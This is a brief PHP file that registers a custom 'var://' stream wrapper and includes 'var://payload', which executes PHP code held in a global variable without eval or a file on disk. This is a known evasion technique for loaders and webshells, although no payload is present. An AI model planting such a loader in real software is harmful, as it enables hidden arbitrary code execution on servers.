<?php
class VarStream
{
    private $pos = 0;
    public $context;
    public function stream_open($path, $mode, $options, &$opened) { return true; }
    public function stream_read($count)
    {
        $data = substr($GLOBALS['_p'], $this->pos, $count);
        $this->pos += strlen($data);
        return $data;
    }
    public function stream_eof() { return $this->pos >= strlen($GLOBALS['_p']); }
    public function stream_stat() { return []; }
}
stream_wrapper_register('var', 'VarStream');
include 'var://payload';
